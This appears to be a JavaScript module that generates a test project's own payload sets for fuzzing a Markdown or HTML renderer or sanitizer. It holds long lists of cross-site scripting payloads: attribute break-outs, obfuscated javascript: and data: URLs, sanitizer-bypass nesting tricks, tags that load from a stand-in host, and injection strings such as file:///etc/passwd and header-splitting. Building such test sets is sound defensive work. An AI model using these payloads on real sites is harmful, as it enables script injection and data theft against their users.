// The project's own payloads. Sets of others are read by `sets.mjs` and never committed.

/**
 * @typedef {object} Payload
 * @property {string} set where it comes from
 * @property {string} text
 */

/** Characters that the program marks places with, or might, and their neighbours. */
const MARKS = [
  ...range(0xF8EE, 0xF8F6), ...range(0xFDCF, 0xFDF0),
  0xE000, 0xE001, 0xF000, 0xF8FF, 0xFFF9, 0xFFFA, 0xFFFB, 0xFFFC, 0xFFFD, 0xFFFE, 0xFFFF,
  0x0000, 0x0001, 0x0008, 0x000B, 0x000C, 0x001B, 0x007F, 0x0080, 0x0085, 0x009F, 0x00AD, 0x200B, 0x200D, 0x200E,
  0x202E, 0x2028, 0x2029, 0x2066, 0xFEFF, 0x1FFFE, 0x1FFFF, 0xF0000, 0xFFFFE, 0x100000, 0x10FFFE, 0x10FFFF,
];

/** What is put behind a mark, or between two. */
const MARKED = ['', '0', 'x onerror=alert(1) y', 'fn-1', 'due', '" onfocus=alert(1) autofocus tabindex=0 x="'];

/** Pairs of marks that open and close. */
const PAIRS = [[0xF8F0, 0xF8F1], [0xF8F2, 0xF8F3], [0xFDD0, 0xFDD1], [0xFDD2, 0xFDD3], [0xFDD3, 0xFDD4], [0xE000, 0xE001]];

/** @param {number} from @param {number} to both included */
function range(from, to) {
  return Array.from({ length: to - from + 1 }, (_, at) => from + at);
}

/** The ways in which a character can be typed. @param {number} code */
function spellings(code) {
  const hex = code.toString(16);
  return [String.fromCodePoint(code), `&#x${hex};`, `&#${code};`];
}

/** Marks alone, with something behind them, and in pairs. */
function marks() {
  const alone = MARKS.flatMap((code) => spellings(code).slice(0, 2)).map((mark) => `a${mark}b`);
  const pairs = PAIRS.flatMap(([open, close]) => {
    const opened = spellings(open);
    const closed = spellings(close);
    return opened.flatMap((mark, way) => MARKED.map((inner) => `t${mark}${inner}${closed[way]} z`));
  });
  const own = [0xF8F0, 0xF8F1, 0xF8F2, 0xF8F3, 0xFDD0, 0xFDD1, 0xFDD2, 0xFDD3, 0xFDD4].flatMap(spellings);
  const placed = own.flatMap((mark) => [
    `<p title="a${mark} b" class="x">hi</p>`,
    `<b id="${mark}fn-1">x</b> y[^1]\n\n[^1]: note <i>raw</i>`,
    `<details><summary>s ${mark}</summary>\n\nhidden\n\n</details>\n\nlast ${spellings(0xF8F3)[1]} end`,
    `![alt${mark}x onerror=alert(1) y${spellings(0xF8F1)[1]}](pics/x.png "t${mark}0")`,
    `<img src="pics/x.png" alt="${mark}0${spellings(0xF8F3)[1]}">`,
    `- [ ] a${mark}b <b>raw</b>`,
    `\`\`\`${mark}js\n${mark}\n\`\`\``,
  ]);
  return [...alone, ...pairs, ...placed];
}

/** What is begun and never ended, and what ends what it never began. */
const UNCLOSED = [
  '<', '</', '<!', '<!-', '<!--', '<!-->', '<!--->', '<!-- a', '<!-- a --!>', '<!-- <!-- -->', '<!-- --', '-->', '<?', '<?php',
  '<![CDATA[', '<![CDATA[ x ]]', ']]>', '<!DOCTYPE', '<!DOCTYPE html>', '<a', '<a href', '<a href=', '<a href="', '<a href="x',
  "<a href='x", '<a href=x title="', '<img src="x', '<img src=x alt="', '<p title="', '<b title=\'', '<div class="', '<div class="x" id="',
  '<textarea>', '<textarea>a', '<title>', '<title>a', '<style>', '<style>a', '<script>', '<script>a', '<script>/*', '<xmp>', '<xmp>a',
  '<plaintext>', '<plaintext>a', '<listing>', '<noscript>', '<noscript><p title="</noscript><img src=x onerror=alert(1)>">', '<noframes>',
  '<noembed>', '<iframe>', '<iframe srcdoc="', '<svg>', '<svg><style>', '<svg><title>', '<svg><desc>', '<svg><![CDATA[', '<math>',
  '<math><mtext>', '<math><annotation-xml encoding="text/html">', '<template>', '<template><p>', '<select>', '<select><option>', '<option>',
  '<table>', '<table><tr><td>', '<table><caption>', '<colgroup>', '<details>', '<details><summary>', '<details open><summary>s', '<dialog open>',
  '<button>', '<form>', '<form id=f>', '<fieldset>', '<object>', '<applet>', '<embed>', '<marquee>', '<video>', '<audio>', '<canvas>', '<map>',
  '<ruby>', '<ruby><rt>', '<rp>', '<a><a>', '<a href=x><div><a href=y>', '<b><i></b></i>', '<h1>', '<h1><h2>', '<nobr>', '<font color=red>',
  '</div>', '</div></div></div>', '</article>', '</article></div></main>', '</main>', '</main></body></html>', '</body>', '</html>', '</p>', '</br>',
  '</footer><footer>', '</script>', '</style>', '</title>', '</textarea>', '</template>', '</details></details>', '</section></article></main><footer class="site-footer">',
  '<main>', '<main id="main">', '<footer class="site-footer">', '<header class="site-header">', '<body onload=alert(1)>', '<html manifest=x>', '<head>', '<frameset>',
  '<frameset onload=alert(1)>', '<image src=x onerror=alert(1)>', '<isindex>', '<keygen>', '<base href="//evil.example/">', '<meta http-equiv=refresh content="0;url=//evil.example/">',
  '```', '~~~', '```\n</code></pre><img src=x onerror=alert(1)>', ':::', '::: details', '::: details a\n::: details b', '::: guide', '::: guide s', '> [!NOTE]', '[^1]', '[^', '[a](', '![', '![a](x', '[a]: ', '[a]: <', '|', '|a\n|-', '***', '___', '`', '``', '$$', '\\', '\\\n', '{#', '{#x', '# a {#x', '# {#"><img src=x onerror=alert(1)>}',
  '<a href="x"title="y"onclick="alert(1)">a</a>', '<p/onclick=alert(1)>a', '<p\fonclick=alert(1)>a</p>', '<p\0onclick=alert(1)>a</p>', '<p\u00A0onclick=alert(1)>a</p>', '<\u00A0img src=x onerror=alert(1)>',
  '<<script>alert(1)</script>', '<scr<script>ipt>alert(1)</script>', '<IMG """><SCRIPT>alert(1)</SCRIPT>">', '<img src=x onerror=alert(1)//', '<img src=x:x onerror=alert(1)>', '<svg/onload=alert(1)//', '<a/b onclick=alert(1)>',
];

/** What would end an attribute, or a text between tags. */
const BREAKOUTS = [
  '" onmouseover="alert(1)', "' onmouseover='alert(1)", '" onfocus=alert(1) autofocus tabindex=0 x="', "' onfocus=alert(1) autofocus tabindex=0 x='", '` onmouseover=alert(1) `', ' onmouseover=alert(1) ', '">', "'>", '"><img src=x onerror=alert(1)>', "'><img src=x onerror=alert(1)>",
  '"/><svg onload=alert(1)>', '"><script>alert(1)</script>', '</title><script>alert(1)</script>', '</textarea><script>alert(1)</script>', '--><script>alert(1)</script>', ']]><script>alert(1)</script>', '&quot; onmouseover=&quot;alert(1)', '&#34; onmouseover=&#34;alert(1)', '&#x22;&gt;&lt;img src=x onerror=alert(1)&gt;',
  '&lt;img src=x onerror=alert(1)&gt;', '&amp;lt;img src=x onerror=alert(1)&amp;gt;', '\\" onmouseover=\\"alert(1)', '\\u0022 onmouseover=\\u0022alert(1)', '%22 onmouseover=%22alert(1)', '\u02BA onmouseover=alert(1)', '\uFF02 onmouseover=alert(1)', '\uFF1Cimg src=x onerror=alert(1)\uFF1E', '"\n onmouseover="alert(1)', '"\t style="position:fixed;inset:0" x="',
  '" style="background:url(//evil.example/x)" x="', '" src="//evil.example/x.png', '" href="javascript:alert(1)', '" srcset="//evil.example/x.png 1x', '" class="theme-toggle', '" data-guide="s', '" id="main', 'x" name="zhinan', '"autofocus onfocus="alert(1)',
];

/** Addresses that run something, and how they are hidden. */
const RUNS = [
  'javascript:alert(1)', 'JaVaScRiPt:alert(1)', ' javascript:alert(1)', '\tjavascript:alert(1)', 'java\tscript:alert(1)', 'java\nscript:alert(1)', 'java\rscript:alert(1)', '\u0001javascript:alert(1)', '\u00A0javascript:alert(1)', '\u3000javascript:alert(1)', '\uFEFFjavascript:alert(1)', '\u200Bjavascript:alert(1)', 'javascript\u200B:alert(1)', 'javascript\uFF1Aalert(1)',
  'javascript&colon;alert(1)', '&#106;avascript:alert(1)', '&#x6a;avascript:alert(1)', '&#x6A&#x61vascript:alert(1)', 'java&Tab;script:alert(1)', 'java&NewLine;script:alert(1)', '&#1;javascript:alert(1)', 'javascript&#58;alert(1)', 'javascript&#0;:alert(1)', 'javascript%3Aalert(1)', '%6Aavascript:alert(1)', 'javascript://x/%0aalert(1)', 'javascript:/*x*/alert(1)', 'javascript:\u2028alert(1)',
  'vbscript:msgbox(1)', 'livescript:alert(1)', 'data:text/html,<script>alert(1)</script>', 'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==', 'DATA:image/svg+xml,<svg onload=alert(1)>', 'data:,x', 'blob:http://127.0.0.1/x', 'filesystem:http://127.0.0.1/temporary/x', 'view-source:x', 'feed:javascript:alert(1)', 'jar:javascript:alert(1)', 'about:blank', 'file:///etc/passwd', 'file://evil.example/share/x.png', 'ws://evil.example/', 'ftp://evil.example/x.png', 'intent://x#Intent;end', 'chrome://settings', 'ms-word:ofe|u|http://evil.example/x', 'search-ms:query=x', 'mailto:a@b?subject=<script>alert(1)</script>', 'tel:1" onclick="alert(1)', 'x-javascript:alert(1)', 'mocha:alert(1)',
];

/** Addresses of somewhere else. */
const ELSEWHERE = [
  'https://evil.example/x.png', 'HTTP://evil.example/x.png', '//evil.example/x.png', '///evil.example/x.png', '////evil.example/x.png', '/\\evil.example/x.png', '\\\\evil.example\\share\\x.png', '\\/evil.example/x.png', 'https:evil.example/x.png', 'https:/evil.example/x.png', 'https:\\\\evil.example\\x.png', 'http:///evil.example/x.png', '/\t/evil.example/x.png', '/\n/evil.example/x.png', '&#47;&#47;evil.example/x.png', '&sol;&sol;evil.example/x.png', '%2F%2Fevil.example/x.png', 'https://evil.example\u2028/x.png', '//evil.example%00/x.png', '/.//evil.example/x.png', './/evil.example/x.png', '..//evil.example/x.png', 'file://evil.example/share/x.png', 'file:////evil.example/share/x.png', '\uFF0F\uFF0Fevil.example/x.png', '//\u3002evil.example/x.png', '//evil.example:80@127.0.0.1/', 'https://127.0.0.1@evil.example/', 'http://[::1]/x.png', 'http://0x7f000001:9/x.png', ' //evil.example/x.png', '\u0001//evil.example/x.png', '//EVIL.example/%2e%2e/x.png',
];

/** The tags through which a page asks for something. @param {string} url */
const asking = (url) => [
  `![a](${url})`, `![a](<${url}>)`, `<img src="${url}">`, `<a href="${url}">a</a>`, `[a](<${url}>)`,
];

/** Tags that ask for something by themselves. */
const ASKS = [
  '<img srcset="//evil.example/a.png 1x">', '<img src="pics/x.png" srcset="//evil.example/a.png 1x">', '<img src="x" lowsrc="//evil.example/a.png">', '<img src="x" dynsrc="//evil.example/a.png">', '<picture><source srcset="//evil.example/a.png"><img src="x"></picture>', '<video src="//evil.example/v"></video>', '<video poster="//evil.example/v"></video>', '<audio src="//evil.example/v" autoplay></audio>', '<audio><source src="//evil.example/v"></audio>', '<track src="//evil.example/v">', '<link rel="stylesheet" href="//evil.example/x.css">', '<link rel="prefetch" href="//evil.example/x">', '<link rel="dns-prefetch" href="//evil.example">', '<link rel=preload as=script href="//evil.example/x">', '<iframe src="//evil.example/"></iframe>', '<embed src="//evil.example/">', '<object data="//evil.example/"></object>', '<applet archive="//evil.example/x">', '<a href="x" ping="//evil.example/">a</a>', '<body background="//evil.example/x.png">', '<table background="//evil.example/x.png"><td background="//evil.example/y.png">x</table>', '<p style="background:url(//evil.example/x.png)">x</p>', '<style>@import "//evil.example/x.css";</style>', '<svg><image href="//evil.example/x.png"/></svg>', '<svg><use href="//evil.example/x.svg#a"/></svg>', '<svg><feImage href="//evil.example/x.png"/></svg>', '<math href="//evil.example/">x</math>', '<input type=image src="//evil.example/x.png">', '<bgsound src="//evil.example/x">', '<form action="//evil.example/"><button>x</button></form>', '<button formaction="//evil.example/">x</button>', '<script src="//evil.example/x.js"></script>', '<script src="x.js"></script>', '<img src=x crossorigin referrerpolicy=unsafe-url>', '<blockquote cite="javascript:alert(1)">x</blockquote>', '<q cite="//evil.example/">x</q>', '<del cite="data:text/html,x">x</del>', '<html manifest="//evil.example/x">', '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">', '<meta http-equiv="Content-Security-Policy" content="script-src \'none\'">', '<meta name="referrer" content="unsafe-url">', '<base href="//evil.example/">', '<base target="_blank">', '<portal src="//evil.example/"></portal>', '<fencedframe></fencedframe>', '<a href="x" target="zhinan">a</a>', '<a href="x" download="a.exe">a</a>', '<a href="x" rel="opener" target="_blank">a</a>', '<area href="javascript:alert(1)">', '<map name=main><area href=//evil.example/></map><img usemap=#main src=x>', '<p contenteditable>x</p>', '<p popover id=p>x</p>', '<p draggable=true ondragstart=alert(1)>x</p>', '<p accesskey=x tabindex=1 onfocus=alert(1)>x</p>', '<p is="x-y">x</p>', '<x-y>x</x-y>', '<slot name=a>x</slot>', '<p slot=a>x</p>', '<div shadowrootmode=open><template shadowrootmode=open><script>alert(1)</script></template></div>',
];

/** Sanitizers were got round by these forms of nesting. */
const NESTED = [
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">', '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">', '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>', '<svg><p><style><g title="</style><img src=x onerror=alert(1)>">', '<math><annotation-xml encoding="text/html"><style><img src=x onerror=alert(1)></style></annotation-xml></math>', '<noscript><style></noscript><img src=x onerror=alert(1)>', '<svg><foreignObject><p><style></p></svg><img src=x onerror=alert(1)>', '<table><svg><style><td></style><img src=x onerror=alert(1)>', '<select><template><style></select><img src=x onerror=alert(1)>', '<xmp><p title="</xmp><img src=x onerror=alert(1)>">', '<svg><desc><noscript><p title="</noscript><img src=x onerror=alert(1)>">', '<math><mi><li><table><mglyph><a href="x"><style></style></table></math>', '<a><svg><a href="javascript:alert(1)"><rect/></a></svg>', '<svg><animate href=#x attributeName=href values=javascript:alert(1) /><a id=x><text>x</text></a></svg>', '<svg><set attributeName="onmouseover" to="alert(1)"/>', '<div><p><b class=a><b class=b><p>x<table><tr><p></b>', '<table><a href=x><tr><td><a href=y>z</table>', '<ruby><rtc><rt><template><rp>', '<details><details><summary><details>', '<p><table><p><img src=x onerror=alert(1)>', '<li><ul><li></li><dd></ul></dd>', '<h1><p><h2></h1></p>', '<frameset><frame src=javascript:alert(1)>', '<svg><script>alert&#40;1&#41</script>', '<svg><script href="data:,alert(1)"/>', '<svg><a xlink:href="javascript:alert(1)"><text y=9>x', '<?xml-stylesheet href="javascript:alert(1)"?>', '<![if !IE]><img src=x onerror=alert(1)><![endif]>', '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->', '<comment><img src="</comment><img src=x onerror=alert(1)>">', "<img src='1' onerror='alert(1)' <", '<img src=x onerror\u000B=alert(1)>', '<img \u000Bonerror=alert(1) src=x>', '<iMg sRc=x OnErRoR=alert(1)>', '<img/src=x/onerror=alert(1)>', '<img src=`x`onerror=alert(1)>', '<img src=x onerror=&#97;lert(1)>',
];

/** What templates, scripts, JSON and YAML would read otherwise than as words. */
const WORDS = [
  '{{ due }}', '{{ x }}', '{{x', '}}', '{{ "a" | safe }}', '{% raw %}', '{% include "base.html" %}', '{# x', '${alert(1)}', '#{alert(1)}', '<%= x %>', '{}', '{}{}', '{name}', '{guide}', '{n}', '$&', '$1', '$`', '\\', '\\\\', '\\n', '\\u003c', '\u2028alert(1)\u2029', '</script><script>alert(1)</script>', '<!--<script>', '<!--<script>-->', '</SCRIPT >', '<\\/script>', ']]></script>', '</script/x>', '</script\f>', '"}', '"},{"root":"//evil.example/"', '{"root":"//evil.example/","search":"x.js"}', '{"root":"https://evil.example/","search":"x.js"}', '{"root":"/","search":"pics/x.js"}', '[object Object]', '__proto__', 'constructor', 'prototype', 'toString', 'hasOwnProperty', 'null', 'undefined', 'NaN', 'true', 'yes', '~', '!!binary x', '&a x', '*a', '- a', 'a: b', '# a', '? a', '| a', '> a', '%YAML', '@a', '`a`', "'", '"', ', ', '[', ']', '{', '---', '...', '---\nx: y\n---', '\ufeff', '1e400', '0x7f', '-', '.', '..', '../..', '/', '//', '?', '#', '?x', '#x', 'a?b#c', '%', '%00', '%2e%2e%2f', '%zz', 'CON', 'nul.txt', 'index.html', 'main', 'alert(1)', 'print()', "';alert(1);//", '*/alert(1)/*', '\r\nSet-Cookie: a=b', 'a\rb', 'a\nb', 'a\u0085b', '\u202Emoc.live', 'a\u0300'.repeat(40), '\u{1F469}\u200D\u{1F4BB}', '字'.repeat(80), 'A'.repeat(60), '<b>bold</b>', '**b**', '[a](b.md)', '<https://evil.example/>', '<a@b.example>', 'www.evil.example', 'https://evil.example/', '![a](x.png)', '[[a]]', ':smile:', '==a==', '~~a~~', '^a^', '<wbr>', '&nbsp;', '&copy', '&#xD800;', '&#x110000;', '&#0;', '&notit;', '&bogus;',
];

/** @returns {Payload[]} */
export function own() {
  const runs = RUNS.flatMap((url) => [`[a](${url})`, `[a](<${url}>)`, `<a href="${url}">a</a>`, url]);
  /** @type {[string, string[]][]} */
  const sets = [
    ['own: marks', marks()],
    ['own: unclosed', UNCLOSED],
    ['own: break-outs', BREAKOUTS],
    ['own: addresses', runs],
    ['own: requests', [...ELSEWHERE.flatMap(asking), ...ELSEWHERE, ...ASKS]],
    ['own: nesting', NESTED],
    ['own: words', WORDS],
  ];
  return distinct(sets.flatMap(([set, texts]) => texts.map((text) => ({ set, text }))));
}

/** Each text once, under the first set that has it. @param {Payload[]} payloads */
export function distinct(payloads) {
  const seen = new Set();
  return payloads.filter(({ text }) => !seen.has(text) && seen.add(text));
}

/**
 * Some of a list, spread over all of it.
 * @template T
 * @param {T[]} list
 * @param {number} most
 */
export function some(list, most) {
  const step = Math.max(1, list.length / most);
  return list.filter((_, at) => Math.floor(at / step) !== Math.floor((at - 1) / step));
}
